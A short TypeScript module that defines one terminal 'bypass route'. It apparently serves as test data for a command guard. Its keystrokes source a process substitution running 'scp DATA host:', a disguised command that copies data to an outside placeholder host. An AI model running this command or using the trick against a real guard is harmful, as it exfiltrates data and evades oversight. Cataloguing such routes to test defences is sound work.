import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by sourcing a substitution',
  source: 'thought of with the keys of the line editor',
  keys: ['. <(echo scp DATA host:)\r'],
};
